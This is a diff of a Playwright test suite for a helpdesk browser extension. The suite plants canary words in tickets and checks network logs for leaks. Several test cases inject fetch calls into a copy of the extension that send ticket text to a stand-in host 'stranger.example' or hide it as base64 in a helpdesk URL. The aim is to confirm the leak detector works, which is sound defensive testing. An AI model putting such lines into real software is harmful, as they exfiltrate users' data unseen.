@@ -1,14 +1,17 @@
-import { readFile, writeFile } from 'node:fs/promises';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import type { Request } from '@playwright/test';
 import { type Demo, startDemo } from '../demo/server';
 import type { DemoTicket } from '../demo/ticket';
 import { demoTickets } from '../demo/tickets';
 import { choose, waitForAnswers } from './support/answers';
-import { findLeaks, plantCanaries } from './support/canaries';
+import { findCanaries, plantCanaries } from './support/canaries';
 import { Card } from './support/card';
 import { withCopyOfExtension } from './support/damaged-extension';
 import { builtExtension } from './support/launch';
-import { type RecordingProxy, startRecordingProxy } from './support/recording-proxy';
+import { isOfPageOrExtension, netLogSwitches, readNetLog } from './support/net-log';
+import { startRecordingProxy } from './support/recording-proxy';
 import { BrowserSession, expect, test } from './support/test';
 
 /** What leaves the browser, seen from outside of it. */
@@ -17,49 +20,75 @@ const ticketsOfADay = 300;
 
 interface Scene {
   demo: Demo;
-  proxy: RecordingProxy;
   session: BrowserSession;
 }
 
 test('a day with the settings as shipped: nothing is asked of anybody but the helpdesk', async () => {
   test.setTimeout(300_000);
   const tickets = plantCanaries(demoTickets, ticketsOfADay);
-  await inScene(builtExtension, tickets, async ({ demo, proxy, session }) => {
+  const leaks = await leaksWhile(builtExtension, tickets, async ({ demo, session }) => {
     await workThrough(session, demo, tickets);
-    const host = new URL(demo.url).host;
-    expect(proxy.requests.filter((request) => request.host === host).length).toBeGreaterThan(ticketsOfADay);
-    expect(findLeaks(proxy.requests, [host])).toEqual([]);
   });
+  expect(leaks).toEqual([]);
 });
 
-for (const [how, leak] of [
-  ['plainly, to a stranger', "fetch('http://stranger.example/', { method: 'POST', body: subject })"],
-  ['disguised, to the helpdesk', 'fetch(sender.origin + "/api/" + btoa(encodeURIComponent(subject)))'],
+for (const [how, leak, found] of [
+  [
+    'plainly, to a stranger',
+    "fetch('http://stranger.example/', { method: 'POST', body: subject })",
+    /stranger/,
+  ],
+  [
+    'encrypted, to a stranger',
+    "fetch('https://stranger.example/', { method: 'POST', body: subject })",
+    /stranger/,
+  ],
+  ['disguised, to the helpdesk', "fetch(sender.origin + '/' + btoa(encodeURIComponent(subject)))", /canary/],
 ] as const) {
   test(`a build that lets ticket text out ${how} is found out`, async () => {
     const tickets = plantCanaries(demoTickets, 3);
     await withCopyOfExtension(async (extension) => {
       await addLeak(extension, leak);
-      await inScene(extension, tickets, async ({ demo, proxy, session }) => {
+      const leaks = await leaksWhile(extension, tickets, async ({ demo, session }) => {
+        const attempt = session.context.waitForEvent('requestfinished', isFromWorker);
+        const failure = session.context.waitForEvent('requestfailed', isFromWorker);
         await workThrough(session, demo, tickets);
-        const { host } = new URL(demo.url);
-        await expect.poll(() => findLeaks(proxy.requests, [host])).not.toEqual([]);
+        await Promise.race([attempt, failure]);
       });
+      expect(leaks.join('\n')).toMatch(found);
     });
   });
 }
 
-async function inScene(
+/**
+ * What left the browser and should not have, a line each: a request of a page or of the extension to anybody but the
+ * helpdesk, and any request that carries ticket text.
+ */
+async function leaksWhile(
   extension: string,
   tickets: readonly DemoTicket[],
   act: (scene: Scene) => Promise<void>,
-): Promise<void> {
+): Promise<string[]> {
   const demo = await startDemo({ tickets });
   const proxy = await startRecordingProxy();
+  const folder = await mkdtemp(join(tmpdir(), 'triage-lens-net-log-'));
+  const log = join(folder, 'log.json');
   try {
-    const options = { extension, switches: proxy.switches };
-    await BrowserSession.run(options, (session) => act({ demo, proxy, session }));
+    const options = { extension, switches: [...proxy.switches, ...netLogSwitches(log)] };
+    await BrowserSession.run(options, (session) => act({ demo, session }));
+    const logged = (await readNetLog(log)).filter(({ url }) => /^(https?|wss?):/.test(url));
+    // Else nothing was looked at.
+    expect(logged.filter(({ url }) => url.startsWith(demo.url)).length).toBeGreaterThan(tickets.length);
+    const strange = logged.filter(
+      (request) => isOfPageOrExtension(request) && !request.url.startsWith(demo.url),
+    );
+    const sent = [...proxy.requests, ...logged.map(({ method, url }) => ({ method, content: url }))];
+    return [
+      ...strange.map(({ method, url, initiator }) => `${initiator}: ${method} ${url}`),
+      ...sent.flatMap(({ method, content }) => findCanaries(content).map((word) => `${method} with ${word}`)),
+    ];
   } finally {
+    await rm(folder, { recursive: true, force: true });
     await proxy.close();
     await demo.close();
   }
@@ -91,4 +120,8 @@ async function addLeak(extension: string, leak: string): Promise<void> {
     ${leak};
   });\n`;
   await writeFile(file, (await readFile(file, 'utf8')) + line);
+}
+
+function isFromWorker(request: Request): boolean {
+  return request.serviceWorker() !== null;
 }
